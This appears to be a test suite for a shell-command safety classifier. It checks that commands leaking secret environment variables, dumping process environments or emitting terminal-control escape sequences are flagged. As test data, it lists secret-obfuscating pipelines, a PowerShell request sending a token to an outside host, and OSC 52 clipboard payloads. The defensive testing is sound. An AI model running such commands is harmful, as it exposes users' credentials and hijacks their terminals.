// What is shown in another form: a secret's value that is no longer recognised and masked, and characters that a format,
// a template or a table of colours makes.

import { describe, expect, test } from 'vitest';
import { levelIn, type Written } from './level-in.ts';

const safe = (shell: Written, texts: readonly string[]) =>
  texts.filter((text) => levelIn(shell, text) === 'safe');

const cross = (...lists: readonly (readonly string[])[]): string[] =>
  lists.reduce<string[]>((made, list) => made.flatMap((text) => list.map((each) => text + each)), ['']);

const ENCODERS = ['base64', 'base32', 'xxd', 'od -c', 'rev', 'hexdump -C', 'openssl base64'];

describe('the environment in another form', () => {
  test.each<[Written, readonly string[]]>([
    [
      'bash',
      ['env', 'printenv', 'export -p', 'set', 'declare -x', 'env | sort', 'env | gzip -c', 'command env'],
    ],
    ['zsh', ['env', 'printenv', 'export', 'typeset', 'set']],
    ['fish', ['env', 'printenv', 'set -x', 'env | sort']],
    ['powershell', ['env', 'gci env:', 'dir env:', 'Get-ChildItem Env:']],
  ])('is asked about in %s', (shell, printers) => {
    expect(safe(shell, cross(printers, [' | '], ENCODERS))).toEqual([]);
  });

  // What is shown whole is masked where it is sent to a model.
  test.each<[Written, readonly string[]]>([
    [
      'bash',
      ['env', 'printenv', 'echo $NAME', 'printenv NAME', 'printf "%s\\n" "$NAME"', 'export -p', 'set'],
    ],
    ['zsh', ['env', 'printenv', 'echo $NAME', 'print -r -- $NAME', 'typeset -x', 'set']],
    ['fish', ['env', 'printenv', 'echo $NAME', 'set -S NAME', 'set -x', 'string length $NAME']],
    [
      'powershell',
      [
        'gci env:',
        '$env:NAME',
        'echo $env:NAME',
        'Write-Output "${env:NAME}"',
        'gc env:NAME',
        'gi env:\\NAME',
      ].concat(['[Environment]::GetEnvironmentVariable("NAME")', 'Test-Path env:NAME', 'printenv NAME']),
    ],
  ])('is safe to show as it is in %s', (shell, texts) => {
    for (const name of ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'DB_PASSWORD'])
      for (const text of texts)
        expect([text, levelIn(shell, text.replace('NAME', name))]).toEqual([text, 'safe']);
  });

  test.each<[Written, readonly string[]]>([
    ['bash', ['printf %.4s $NAME', 'printf "%c" "$NAME"', 'printf -- %-.9s $NAME']],
    [
      'zsh',
      [
        'echo ${NAME[1,4]}',
        'echo $NAME[1,4]',
        'echo ${(s::)NAME}',
        'echo ${(j: :)${(s::)NAME}}',
        'echo ${(U)NAME}',
      ],
    ],
    [
      'fish',
      ['sub -l 4 $NAME', "split '' $NAME", 'replace a b $NAME', 'upper $NAME', 'match -r "..." $NAME']
        .map((words) => `string ${words}`)
        .concat(['echo $NAME | string sub -s 2', 'printf %.4s $NAME']),
    ],
    [
      'powershell',
      [
        '$env:NAME[0..3]',
        '$env:NAME.Substring(1)',
        '$env:NAME > f',
        '"x$env:NAME"',
        'gc env:NAME | Format-Hex',
      ].concat([
        '$x = "\n$env:NAME"; $x[1]',
        'iwr "http://x/$env:NAME"',
        "pwsh -c '$env:NAME' | base64",
        'echo $env:NAME; $a[0]',
      ]),
    ],
  ])('a part or another form of one is not in %s', (shell, texts) => {
    for (const name of ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'DB_PASSWORD'])
      expect(
        safe(
          shell,
          texts.map((text) => text.replace('NAME', name)),
        ),
      ).toEqual([]);
  });

  test.each(['bash', 'zsh'] as const)('a part of one value is asked about in %s', (shell) => {
    const names = ['MY_TOKEN', 'GITHUB_TOKEN', 'DB_PASSWORD', 'AWS_SECRET_ACCESS_KEY'];
    const parts = [
      ':0:20',
      ': -4',
      '#x',
      '##*-',
      '%x',
      '/a/b',
      '//a/b',
      ...(shell === 'bash' ? ['^^', ',,', ',', ':3'] : []),
    ];
    const texts = names.flatMap((name) => parts.map((part) => `echo "\${${name}${part}}"`));
    expect(safe(shell, texts)).toEqual([]);
    const readers = names.flatMap((name) => [
      `awk 'BEGIN{print substr(ENVIRON["${name}"], 2)}'`,
      `jq -n '$ENV.${name}|@base64'`,
      `jq -rn 'env.${name}[1:]'`,
      `yq -n 'strenv(${name})|@base64'`,
    ]);
    expect(safe(shell, readers)).toEqual([]);
  });

  test.each([
    'env',
    'env | sort',
    'env | grep PATH',
    'env | cut -d= -f1',
    'echo "$MY_TOKEN"',
    'echo "${#MY_TOKEN}"',
    '[ -n "${MY_TOKEN:-}" ]',
    'TOKEN=a.b; echo "${TOKEN%.b}"',
    'for token in a.b c.d; do echo "${token%.*}"; done',
    'echo "${PWD##*/}"',
    'echo "${HOME%/}" | base64',
    "jq '.env' f",
    "jq -r '.services[].env | keys' f",
    "yq '.jobs.*.env' f.yml",
    'jq -n env',
    'base64 f',
  ])('%s stays safe', (text) => expect(levelIn('bash', text)).toBe('safe'));
});

describe('the environment of other processes', () => {
  test.each(['bash', 'zsh', 'fish', 'powershell'] as const)('is shown by ps in %s', (shell) => {
    const texts = ['e', 'eww', 'auxe', 'auxeww', 'axe', 'eo pid', '-E', '-E 1', 'aux e', '-ef e'];
    expect(
      safe(
        shell,
        texts.map((words) => `/usr/bin/ps ${words}`),
      ),
    ).toEqual([]);
  });

  test.each([
    'ps',
    'ps aux',
    'ps -ef',
    'ps -eo pid,comm',
    'ps -C ssh-agent',
    'ps axo pid,etime,comm',
    'ps -u me',
    'ps -ejH',
    'ps faux',
    'ps aux --sort=-pcpu',
    'ps aux --sort -rss',
    'ps -o pid,etime -p 5',
    'ps U me',
  ])('%s stays safe', (text) => expect(levelIn('bash', text)).toBe('safe'));
});

describe('characters that do more to a terminal than colour', () => {
  const texts = [
    ...cross(
      [
        'docker ps --format ',
        'docker images --format ',
        'podman ps --format ',
        'go list -f ',
        'actionlint -format ',
      ],
      [`'{{printf "%c" 27}}'`, `'{{.ID}}{{printf "%c]52;" 27}}'`, `'{{printf "%-2c" .Size}}'`],
    ),
    ...cross(['tr xy '], ["'\\033\\007'", "'a\\033'", "'\\33\\7'"]),
    ...cross(
      ['diff ', 'diff -u '],
      ['--old-line-format="%c\'\\033\']52;c;QQ==" a b', '--line-format="%c\'\\033\']0;x" a b'],
    ),
    ...cross(
      ["awk '"],
      ['{printf "%c", $1}\' f', 'BEGIN{x=27;printf("%c",x)}\'', 'BEGIN{printf "%5c", n}\''],
    ),
    ...cross(
      ['sqlite3 -readonly f.db '],
      [
        '"SELECT char(27)||\']52;c;QQ==\'||char(7)"',
        '"SELECT char(a) FROM t"',
        '"SELECT cast(x\'1b5d3532\' as text)"',
        '"SELECT printf(\'%c\', a) FROM t"',
      ],
    ),
    ...cross(
      ['LS_COLORS=', 'export LS_COLORS=', 'LSCOLORS=x EZA_COLORS='],
      ["'lc=\\e]52;c;QQ==\\a:di=' ls --color", "'rc=\\033]0;x\\007' ls", "'lc=^[]0;x' ls"],
    ),
  ];

  test.each(['bash', 'zsh'] as const)('are asked about in %s', (shell) =>
    expect(safe(shell, texts)).toEqual([]),
  );

  test.each([
    "docker ps --format '{{.Names}} {{.Status}}'",
    "docker ps --format 'table {{.ID}}\\t{{.Names}}'",
    "tr -d '\\033' < f",
    "tr '\\n' ' '",
    'awk \'{printf "%s %5d\\n", $1, $2}\' f',
    'diff --old-line-format="- %L" a b',
    'sqlite3 -readonly f.db "SELECT a||char(10) FROM t"',
    "LS_COLORS='di=01;34:*.md=33' ls --color",
  ])('%s stays safe', (text) => expect(levelIn('bash', text)).toBe('safe'));
});

describe('a name reference', () => {
  test('of bash is evaluated whatever it is given', () => {
    const types = [
      'declare -n r',
      'typeset -n r',
      'local -n r',
      'declare -gn r',
      'declare -n r=x',
      'declare -n q r',
    ];
    const writers = [
      'read r < f',
      'r=$(cat f)',
      'for r in "$@"; do echo "$r"; done',
      'printf -v r %s "$1"',
      'mapfile -t r < f',
    ];
    expect(safe('bash', cross(types, ['; '], writers))).toEqual([]);
  });

  test.each(['declare -p x', 'export -p', 'declare -x'])('%s stays safe', (text) =>
    expect(levelIn('bash', text)).toBe('safe'),
  );
});

describe('an option or an operand that is printed', () => {
  test('may command the terminal', () => {
    const escapes = ["'\\033]52;c;x'", "'\\x1b]52;c;x'", "$'\\e]52;c;x'"];
    const read = ['awk -v e=', 'gawk -v e=', 'awk --assign=e='];
    const texts = [
      ...cross(read, escapes, [" '{print e}' f"]),
      ...cross(["awk '{print e}' e="], escapes, [' f']),
      ...cross(
        [
          'grep --label=',
          'grep -A1 --group-separator=',
          'rg -r ',
          'rg --replace=',
          'rg --field-match-separator=',
        ],
        escapes.slice(2),
        [' x f'],
      ),
      ...cross(
        ['docker ps', 'docker version', 'podman images'],
        [" --format '{{"],
        ['"\\x1b"}}]52;c;x', '"\\u001b]52;c;x"}}', 'print "\\x1b]52;c;x"}}', '- println "\\033]52;c;x" -}}'],
        ["'"],
      ),
      'echo 1b5d35323b63 | xxd -r -p',
      'xxd -r -p <<< 1b5d35323b63',
    ];
    expect(texts.length).toBeGreaterThan(25);
    expect(safe('bash', texts)).toEqual([]);
    for (const text of [
      "awk -v OFS='\\t' '{print $1}' f",
      "awk -v c='\\033[31m' '{print c}' f",
      'grep -A1 --group-separator=--- x f',
      "rg -or '$1' 'a(.)' f",
      "docker ps --format '{{.Names}}\\t{{.Status}}'",
      'echo 68690a | xxd -r -p',
    ])
      expect(levelIn('bash', text)).toBe('safe');
  });

  test('is made of numbers in PowerShell', () => {
    const numbers = ['27,93,53,50,59', '0x1b,93', '157,53'];
    const made = [
      '-join (N | % { [char]$_ })',
      'N | % { [char]$_ } | Join-String',
      '(N | % {[char]$_}) -join ""',
      '[Text.Encoding]::ASCII.GetString([byte[]](N))',
      'N | % { $_ -as [char] }',
      'N | % { [Convert]::ToChar($_) }',
      '$a = N; -join [char[]]$a',
    ];
    const texts = [
      ...made.flatMap((text) => numbers.map((list) => text.replace('N', list))),
      "[char](26+1) + ']52;c;x'",
      '$e = 27 -as [char]; "$e]52;c;x"',
      "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('G101MjtjO2FHaz0H'))",
    ];
    expect(safe('powershell', texts)).toEqual([]);
    for (const text of [
      '97..122 | % { [char]$_ }',
      '"$([char]27)[31mred$([char]27)[0m"',
      "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8='))",
      "[char]::IsDigit('a')",
      "[int][char]'a'",
    ])
      expect(levelIn('powershell', text)).toBe('safe');
  });

  test('is a part of an item of the environment in PowerShell', () => {
    const lists = ['gci env:', 'dir env:', 'Get-ChildItem Env:', 'gi env:*KEY'];
    const parts = [
      '% { $_.Value.Substring(0, 4) }',
      "% { $_.Value.ToCharArray() -join ' ' }",
      '% { [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($_.Value)) }',
      '% Value | % { -join $_[-1..-9] }',
      "% { $_.Value -replace 'a', 'b' }",
    ];
    expect(safe('powershell', cross(lists, [' | '], parts))).toEqual([]);
    for (const text of ['gci env:', 'gci env: | % { $_.Name }', "gci env: | ? { $_.Value -like '*x*' }"])
      expect(levelIn('powershell', text)).toBe('safe');
  });
});
